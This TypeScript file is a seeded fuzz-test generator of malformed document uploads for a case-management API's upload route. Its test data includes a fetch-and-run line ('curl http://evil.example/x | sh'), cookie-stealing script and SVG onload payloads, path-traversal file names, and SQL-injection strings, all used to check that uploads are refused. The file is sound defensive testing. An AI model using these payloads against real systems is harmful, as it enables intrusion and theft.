// Seeded generator of malformed document uploads for the fuzz tests: the multipart form of
// POST /api/cases/[caseId]/documents (file, kind, title, documentDate; the rules are in
// lib/documents/upload-document.ts). Each attempt is a valid upload with one fatal
// corruption that the route must refuse (content that is not a PDF by its first bytes, an
// empty or missing file, the file sent as a text field, an unknown or missing kind, a
// missing, blank or over-long title, an impossible or malformed date, a blank or over-long
// file name, a field sent as a file, a malformed, unknown or foreign case id in the URL)
// plus up to two changes that are harmless alone (extra fields and files, duplicated fields,
// unicode and odd file names, unicode or padding in the title, a misleading content type,
// another field order, no date). So every attempt must be refused, clearly, with nothing
// stored.
import { UPLOAD_KINDS } from "@/lib/documents/upload-document.ts";
import { seededRandom } from "../support/seeded-random.ts";
import { HUGE, UNICODE_SAMPLES, type ForeignId } from "./malformed-inputs.ts";

export type UploadFile = { name: string; mimeType: string; buffer: Buffer };
export type UploadPart = { name: string; value: string } | { name: string; file: UploadFile };
/** `caseId` goes in the URL (encoded with encodeURIComponent); `parts` are the form's fields in order. */
export type MalformedUpload = { label: string; caseId: string; parts: UploadPart[] };

type Attempt = { caseId: string; parts: UploadPart[] };
type Random = () => number;
type Pick = <T>(items: readonly T[]) => T;
/** weight: how often it is drawn relative to others (the costly ones less often) */
type Change = { weight?: number; apply: (attempt: Attempt) => string };

/** A PDF by the route's rule: its first five bytes are "%PDF-". */
const PDF = Buffer.from(
  "%PDF-1.4\n1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj\n2 0 obj << /Type /Page >> endobj\n%%EOF\n",
  "latin1",
);
const TITLES = [
  "Report",
  "Utilization review decision",
  "Letter from Dr. O'Brien",
  "MRI — lumbar spine",
  "Notes 2024/01 (part 2)",
  "Ärztlicher Bericht",
  "QME report #3",
];
const SAFE_FILE_NAMES = ["report.pdf", "scan 0001.PDF", "ur-decision.pdf", "records.pdf"];
// non-blank after trimming and at most 255 characters: accepted as a file name
const ODD_FILE_NAMES = [
  "../../../etc/passwd.pdf",
  "C:\\Windows\\System32\\evil.pdf",
  "report.pdf.exe",
  "no-extension",
  ".pdf",
  "con.pdf",
  'quote"d.pdf',
  "semi;colon=1.pdf",
  "a".repeat(250) + ".pdf",
  "%2e%2e%2fescape.pdf",
];
const EXTRA_NAMES = [
  "caseId",
  "id",
  "uploadedById",
  "storageKey",
  "sha256",
  "pageCount",
  "mimeType",
  "fileName",
  "status",
  "isAdmin",
  "role",
  "__proto__",
  "constructor",
  "prototype",
  "🔑",
  "\u0000key",
  "k".repeat(10_000),
  "file[]",
  "kind[]",
  "title ",
];
const EXTRA_FILE_NAMES = ["attachment", "files", "file2", "evidence", "upload"];
const MISLEADING_TYPES = [
  "image/gif",
  "text/html",
  "application/octet-stream",
  "application/x-msdownload",
  "application/pdf; charset=utf-8",
  "text/plain",
  "APPLICATION/PDF",
];

/** Leading bytes and whole bodies that are not "%PDF-" at offset 0. */
const NOT_PDF: readonly { label: string; bytes: (random: Random, pick: Pick) => Buffer; weight?: number }[] = [
  {
    label: "a GIF",
    bytes: () =>
      Buffer.from(
        "GIF89a\x01\x00\x01\x00\x80\x00\x00\xff\xff\xff\x00\x00\x00!\xf9\x04\x01\x00\x00\x00\x00,\x00\x00\x00\x00\x01\x00\x01\x00\x00\x02\x02D\x01\x00;",
        "latin1",
      ),
  },
  {
    label: "a PNG",
    bytes: () =>
      Buffer.from([
        0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0, 0x0d, 0x49, 0x48, 0x44, 0x52, 0, 0, 0, 1, 0, 0, 0, 1,
        8, 6, 0, 0, 0,
      ]),
  },
  {
    label: "a JPEG",
    bytes: () =>
      Buffer.from([0xff, 0xd8, 0xff, 0xe0, 0, 0x10, 0x4a, 0x46, 0x49, 0x46, 0, 1, 1, 0, 0, 1, 0, 1, 0, 0, 0xff, 0xd9]),
  },
  {
    label: "a ZIP",
    bytes: () =>
      Buffer.concat([
        Buffer.from("PK\x03\x04\x14\x00\x00\x00\x08\x00", "latin1"),
        Buffer.from("word/document.xml%PDF-1.4"),
      ]),
  },
  {
    label: "a Windows executable (MZ)",
    bytes: () =>
      Buffer.from(
        "MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xffThis program cannot be run in DOS mode.",
        "latin1",
      ),
  },
  {
    label: "an ELF executable",
    bytes: () => Buffer.from("\x7fELF\x02\x01\x01\x00\x00\x00\x00\x00\x00\x00\x00\x00", "latin1"),
  },
  {
    label: "HTML",
    bytes: () =>
      Buffer.from("<!DOCTYPE html><html><body><script>alert(document.cookie)</script>%PDF-1.4</body></html>"),
  },
  {
    label: "SVG",
    bytes: () => Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><text>%PDF-</text></svg>'),
  },
  {
    label: "plain text",
    bytes: () => Buffer.from("Patient seen on 2024-01-02. Lumbar strain. Return to work in two weeks.\n"),
  },
  { label: "a shell script", bytes: () => Buffer.from("#!/bin/sh\ncurl http://evil.example/x | sh\n") },
  { label: "JSON", bytes: () => Buffer.from('{"kind":"MEDICAL_REPORT","file":"%PDF-1.4"}') },
  {
    label: "seeded random bytes",
    bytes: (random) => {
      const bytes = Buffer.from(
        Array.from({ length: 1 + Math.floor(random() * 4096) }, () => Math.floor(random() * 256)),
      );
      if (bytes[0] === 0x25) bytes[0] = 0x26; // never "%PDF-" at the start
      return bytes;
    },
  },
  { label: "unicode text", bytes: (_random, pick) => Buffer.from(`${pick(UNICODE_SAMPLES)} %PDF-1.4`) },
  { label: "%PDF- after a space", bytes: () => Buffer.concat([Buffer.from(" "), PDF]) },
  { label: "%PDF- after a UTF-8 byte-order mark", bytes: () => Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), PDF]) },
  { label: "%PDF- after a newline", bytes: () => Buffer.concat([Buffer.from("\r\n"), PDF]) },
  { label: "%PDF- after a NUL", bytes: () => Buffer.concat([Buffer.alloc(1), PDF]) },
  { label: "%PDF- after 1 KB of junk", bytes: () => Buffer.concat([Buffer.alloc(1000, "x"), PDF]) },
  { label: "a truncated header", bytes: (_random, pick) => Buffer.from(pick(["%", "%P", "%PD", "%PDF"])) },
  { label: "a lowercase header", bytes: () => Buffer.from("%pdf-1.4\n%%EOF\n") },
  {
    label: "a header without its dash",
    bytes: (_random, pick) =>
      Buffer.from(`${pick(["%PDF1.4", "%PDF 1.4", "%PDF_1.4", "%PDF\u20131.4", "PDF-1.4"])}\n%%EOF\n`),
  },
  { label: "a UTF-16 %PDF-", bytes: () => Buffer.from("%PDF-1.4\n", "utf16le") },
  { label: "a fullwidth ％PDF-", bytes: () => Buffer.from("％PDF-1.4\n") },
  { label: "only a PDF's tail", bytes: () => Buffer.from("trailer << /Root 1 0 R >>\n%%EOF\n") },
  { label: "a single NUL byte", bytes: () => Buffer.alloc(1) },
  { label: "1 MB of zeros", bytes: () => Buffer.alloc(1024 * 1024), weight: 0.2 },
];

const BAD_KINDS = [
  "EXECUTABLE",
  "medical_report",
  "Medical_Report",
  " MEDICAL_REPORT",
  "MEDICAL_REPORT ",
  "MEDICAL_REPORT\u0000",
  "MEDICAL REPORT",
  "MEDICAL_REPORTS",
  "DOCUMENT",
  "",
  " ",
  "0",
  "1",
  "null",
  "undefined",
  "true",
  "[]",
  "{}",
  "__proto__",
  "constructor",
  "toString",
  "valueOf",
  "' OR 1=1 --",
  "APPLICATION,OTHER",
  '["OTHER"]',
];
// blank after trimming (String.prototype.trim: spaces, tabs, line breaks, NBSP, BOM, U+2028...)
const BLANK_TITLES = [
  "",
  " ",
  "   ",
  "\t",
  "\r\n",
  "\r\n\t\u000b\u000c",
  "\u00a0",
  "\u3000\ufeff",
  "\u2028\u2029",
  " \u1680\u2000\u200a\u202f\u205f ",
];
const BAD_DATES = [
  "2024-02-30",
  "2023-02-29",
  "2024-04-31",
  "2024-13-01",
  "2024-00-10",
  "2024-01-00",
  "2024-01-32",
  "0000-00-00",
  "9999-99-99",
  "31/12/2024",
  "12/31/2024",
  "2024/01/02",
  "2024-1-1",
  "24-01-01",
  "20240101",
  "2024-01-01T00:00:00Z",
  "2024-02-29T25:00:00Z",
  "+02024-01-01",
  "-2024-01-01",
  " 2024-01-01",
  "2024-01-01 ",
  "2024-01-01\n",
  "2024-01-01\u0000",
  "２０２４-０１-０１",
  "٢٠٢٤-٠١-٠١",
  "yesterday",
  "today",
  "now",
  "null",
  "undefined",
  " ",
  "NaN",
  "1704067200000",
  "2024-01-01' OR '1'='1",
  "{{date}}",
];

/** A version-4 uuid from the seeded generator (repeatable, unlike crypto.randomUUID). */
function seededUuid(random: Random): string {
  const hex = Array.from({ length: 32 }, () => Math.floor(random() * 16).toString(16));
  hex[12] = "4";
  hex[16] = "89ab"[Math.floor(random() * 4)];
  const s = hex.join("");
  return `${s.slice(0, 8)}-${s.slice(8, 12)}-${s.slice(12, 16)}-${s.slice(16, 20)}-${s.slice(20)}`;
}

/** A short, readable form of a sent value for a label. */
function show(value: string): string {
  return JSON.stringify(value.length > 40 ? `${value.slice(0, 40)}…` : value);
}

const isFile = (part: UploadPart): part is { name: string; file: UploadFile } => "file" in part;
const textPart = (name: string, value: string): UploadPart => ({ name, value });

/** Puts `make(part)` in place of every part named `name` (appended when there is none). */
function replaceAll(attempt: Attempt, name: string, make: (part: UploadPart | null) => UploadPart): void {
  if (!attempt.parts.some((p) => p.name === name)) attempt.parts.push(make(null));
  else attempt.parts = attempt.parts.map((p) => (p.name === name ? make(p) : p));
}
const removeAll = (attempt: Attempt, name: string) =>
  void (attempt.parts = attempt.parts.filter((p) => p.name !== name));
const setText = (attempt: Attempt, name: string, value: string) =>
  replaceAll(attempt, name, () => textPart(name, value));
/** The field sent as a file part holding its text (a File is not a string to the route). */
const asFile = (attempt: Attempt, name: string, value: string) =>
  replaceAll(attempt, name, () => ({
    name,
    file: { name: `${name}.txt`, mimeType: "text/plain", buffer: Buffer.from(value) },
  }));
const setFiles = (attempt: Attempt, change: (file: UploadFile) => UploadFile) =>
  replaceAll(attempt, "file", (part) => ({
    name: "file",
    file: change(part && isFile(part) ? part.file : { name: "report.pdf", mimeType: "application/pdf", buffer: PDF }),
  }));

/** Corruptions the route must refuse, whatever else the form holds. */
function fatalChanges(caseId: string, foreignIds: readonly ForeignId[], random: Random, pick: Pick): Change[] {
  const urlSafeUnicode = UNICODE_SAMPLES.filter((s) => {
    try {
      encodeURIComponent(s);
      return true;
    } catch {
      return false; // a lone surrogate cannot be put in a URL
    }
  });
  const malformedCaseIds = () => [
    "not-a-uuid",
    caseId.slice(0, -1),
    `${caseId}0`,
    caseId.replace(/-/g, ""),
    `{${caseId}}`,
    ` ${caseId}`,
    `${caseId} `,
    `${caseId}\n`,
    `${caseId}\u0000`,
    `${caseId.slice(0, -1)}g`,
    `${caseId.slice(0, 14)}0${caseId.slice(15)}`,
    `${caseId}/..`,
    "' OR '1'='1",
    "../../etc/passwd",
    "..%2F..%2Fetc%2Fpasswd",
    "1".repeat(500),
    "null",
    "undefined",
    "%00",
    "{{caseId}}",
    "123",
    "-1",
    "0x1F",
    "🩺",
    `${caseId}${pick(urlSafeUnicode)}`,
  ];
  const changes: Change[] = [
    // the URL
    {
      apply: (a) => {
        a.caseId = pick(malformedCaseIds());
        return `malformed case id ${show(a.caseId)} in the URL`;
      },
    },
    {
      weight: 0.5,
      apply: (a) => {
        a.caseId = pick([
          seededUuid(random),
          seededUuid(random),
          "00000000-0000-0000-0000-000000000000",
          "ffffffff-ffff-ffff-ffff-ffffffffffff",
        ]);
        return `unknown case ${a.caseId} in the URL`;
      },
    },
    // the file
    {
      weight: 3,
      apply: (a) => {
        const kind = weightedPick(NOT_PDF, random);
        const buffer = kind.bytes(random, pick);
        setFiles(a, (f) => ({ ...f, buffer }));
        return `file: ${kind.label} (${buffer.length} bytes)`;
      },
    },
    {
      apply: (a) => {
        setFiles(a, (f) => ({ ...f, buffer: Buffer.alloc(0) }));
        return "file: empty";
      },
    },
    {
      apply: (a) => {
        removeAll(a, "file");
        return "no file field";
      },
    },
    {
      apply: (a) => {
        const value = pick([PDF.toString("latin1"), "report.pdf", "", "%PDF-", HUGE.slice(0, 10_000)]);
        setText(a, "file", value);
        return `file sent as a text field ${show(value)}`;
      },
    },
    {
      weight: 0.5,
      apply: (a) => {
        const name = pick(["", " ", "   ", "\t", "\u00a0", "\u3000"]);
        setFiles(a, (f) => ({ ...f, name }));
        return `blank file name ${show(name)}`;
      },
    },
    // over 255 characters; the schema counts code points, so an emoji is one character
    {
      weight: 0.5,
      apply: (a) => {
        const name = pick(["a".repeat(252) + ".pdf", "🩺".repeat(252) + ".pdf", "x".repeat(10_000) + ".pdf"]);
        setFiles(a, (f) => ({ ...f, name }));
        return `over-long file name (${[...name].length} characters)`;
      },
    },
    // the kind
    {
      weight: 1.5,
      apply: (a) => {
        const kind = pick([
          ...BAD_KINDS,
          `${pick(UPLOAD_KINDS)}${pick(UNICODE_SAMPLES)}`,
          pick(UPLOAD_KINDS).toLowerCase(),
        ]);
        setText(a, "kind", kind);
        return `unknown kind ${show(kind)}`;
      },
    },
    {
      weight: 0.2,
      apply: (a) => {
        setText(a, "kind", HUGE + pick(UNICODE_SAMPLES));
        return "1 MB kind";
      },
    },
    {
      apply: (a) => {
        removeAll(a, "kind");
        return "no kind";
      },
    },
    {
      weight: 0.5,
      apply: (a) => {
        asFile(a, "kind", pick(UPLOAD_KINDS));
        return "kind sent as a file";
      },
    },
    // the title
    {
      apply: (a) => {
        removeAll(a, "title");
        return "no title";
      },
    },
    {
      apply: (a) => {
        const title = pick(BLANK_TITLES);
        setText(a, "title", title);
        return `blank title ${show(title)}`;
      },
    },
    // over 200 characters after trimming, counted in code points as the schema counts them
    {
      apply: (a) => {
        const title = pick([
          "T".repeat(201),
          "x".repeat(200) + "🩺",
          "🩺".repeat(201),
          "ש".repeat(201),
          "e\u0301".repeat(101),
          `${"T".repeat(201)}${pick(UNICODE_SAMPLES)}`,
          `${pick(UNICODE_SAMPLES)}${"t".repeat(201)}`,
          `${" ".repeat(50)}${"T".repeat(201)}${" ".repeat(50)}`,
        ]);
        setText(a, "title", title);
        return `over-long title ${show(title)} (${[...title].length} characters)`;
      },
    },
    {
      weight: 0.2,
      apply: (a) => {
        setText(a, "title", `${pick(UNICODE_SAMPLES)}${HUGE}`);
        return "1 MB title";
      },
    },
    {
      weight: 0.5,
      apply: (a) => {
        asFile(a, "title", pick(TITLES));
        return "title sent as a file";
      },
    },
    // the date
    {
      weight: 1.5,
      apply: (a) => {
        const date = pick(BAD_DATES);
        setText(a, "documentDate", date);
        return `bad documentDate ${show(date)}`;
      },
    },
    {
      weight: 0.2,
      apply: (a) => {
        setText(a, "documentDate", `2024-01-01${HUGE}`);
        return "1 MB documentDate";
      },
    },
    {
      weight: 0.5,
      apply: (a) => {
        asFile(a, "documentDate", "2024-01-02");
        return "documentDate sent as a file";
      },
    },
  ];
  // another record's id where the case id goes (none of them is a case)
  if (foreignIds.length) {
    changes.push({
      apply: (a) => {
        const foreign = pick(foreignIds);
        a.caseId = foreign.id;
        return `a ${foreign.kind} id (${foreign.id}) as the case id`;
      },
    });
  }
  return changes;
}

/** Changes that are harmless alone: the route must still refuse the attempt for its fatal fault. */
function harmlessChanges(foreignIds: readonly ForeignId[], random: Random, pick: Pick): Change[] {
  const extraValues = [
    "true",
    "ADMIN",
    "-1",
    "../../etc/passwd",
    "application/x-msdownload",
    HUGE.slice(0, 1000),
    ...foreignIds.map((f) => f.id),
    ...UNICODE_SAMPLES,
  ];
  const mapText = (a: Attempt, name: string, change: (value: string) => string) =>
    void (a.parts = a.parts.map((p) => (p.name === name && !isFile(p) ? textPart(name, change(p.value)) : p)));
  return [
    {
      apply: (a) => {
        const name = pick(EXTRA_NAMES);
        a.parts.push(textPart(name, pick(extraValues)));
        return `extra field ${show(name)}`;
      },
    },
    {
      apply: (a) => {
        const name = pick(EXTRA_FILE_NAMES);
        a.parts.push({
          name,
          file: { name: "evil.exe", mimeType: "application/x-msdownload", buffer: Buffer.from("MZ\x90\x00", "latin1") },
        });
        return `extra file field ${show(name)}`;
      },
    },
    {
      apply: (a) => {
        const part = pick(a.parts);
        a.parts.push(part);
        return `${show(part.name)} sent twice`;
      },
    },
    {
      apply: (a) => {
        const name = pick([`${pick(UNICODE_SAMPLES)}.pdf`, `report ${pick(UNICODE_SAMPLES)}`, pick(ODD_FILE_NAMES)]);
        a.parts = a.parts.map((p) =>
          isFile(p) && p.name === "file" ? { name: "file", file: { ...p.file, name } } : p,
        );
        return `file name ${show(name)}`;
      },
    },
    {
      apply: (a) => {
        const sample = pick(UNICODE_SAMPLES);
        mapText(a, "title", (t) => (random() < 0.5 ? `${t} ${sample}` : `${sample} ${t}`));
        return `unicode ${show(sample)} in the title`;
      },
    },
    {
      apply: (a) => {
        mapText(a, "title", (t) => `${" \t".repeat(1 + Math.floor(random() * 20))}${t}\u00a0\r\n`);
        return "padded title";
      },
    },
    {
      apply: (a) => {
        const mimeType = pick(MISLEADING_TYPES);
        a.parts = a.parts.map((p) =>
          isFile(p) && p.name === "file" ? { name: "file", file: { ...p.file, mimeType } } : p,
        );
        return `file content type ${show(mimeType)}`;
      },
    },
    {
      apply: (a) => {
        const parts = [...a.parts];
        for (let i = parts.length - 1; i > 0; i--) {
          const j = Math.floor(random() * (i + 1));
          [parts[i], parts[j]] = [parts[j], parts[i]];
        }
        a.parts = parts;
        return "fields in another order";
      },
    },
    {
      apply: (a) => {
        const empty = random() < 0.5;
        if (empty) setText(a, "documentDate", "");
        else removeAll(a, "documentDate");
        return empty ? "empty documentDate" : "no documentDate";
      },
    },
  ];
}

function weightedPick<T extends { weight?: number }>(items: readonly T[], random: Random): T {
  let left = random() * items.reduce((sum, c) => sum + (c.weight ?? 1), 0);
  for (const item of items) {
    left -= item.weight ?? 1;
    if (left <= 0) return item;
  }
  return items[items.length - 1];
}

/** A valid upload to `caseId`: a PDF, a known kind, a title, and a real date or none. */
function validAttempt(caseId: string, random: Random, pick: Pick): Attempt {
  const parts: UploadPart[] = [textPart("kind", pick(UPLOAD_KINDS)), textPart("title", pick(TITLES))];
  if (random() < 0.6) {
    const pad = (n: number) => String(n).padStart(2, "0");
    parts.push(
      textPart(
        "documentDate",
        `${1990 + Math.floor(random() * 40)}-${pad(1 + Math.floor(random() * 12))}-${pad(1 + Math.floor(random() * 28))}`,
      ),
    );
  }
  parts.push({ name: "file", file: { name: pick(SAFE_FILE_NAMES), mimeType: "application/pdf", buffer: PDF } });
  return { caseId, parts };
}

/**
 * `count` malformed uploads to the case `caseId`, the same on every run for the same seed.
 * `foreignIds`: real ids of other records (none of them a case), sent as the case id.
 */
export function malformedUploads(
  caseId: string,
  { count = 1000, seed = 1, foreignIds = [] as readonly ForeignId[] } = {},
): MalformedUpload[] {
  const random = seededRandom(seed);
  const pick: Pick = (items) => items[Math.floor(random() * items.length)];
  const fatal = fatalChanges(caseId, foreignIds, random, pick);
  const harmless = harmlessChanges(foreignIds, random, pick);
  return Array.from({ length: count }, (_, i) => {
    const attempt = validAttempt(caseId, random, pick);
    // the harmless ones first: the fatal one, applied last, replaces every copy of its field
    const extras = Array.from({ length: Math.floor(random() * 3) }, () => pick(harmless).apply(attempt));
    const fault = weightedPick(fatal, random).apply(attempt);
    return { label: `#${i} ${[fault, ...extras].join(" + ")}`, caseId: attempt.caseId, parts: attempt.parts };
  });
}
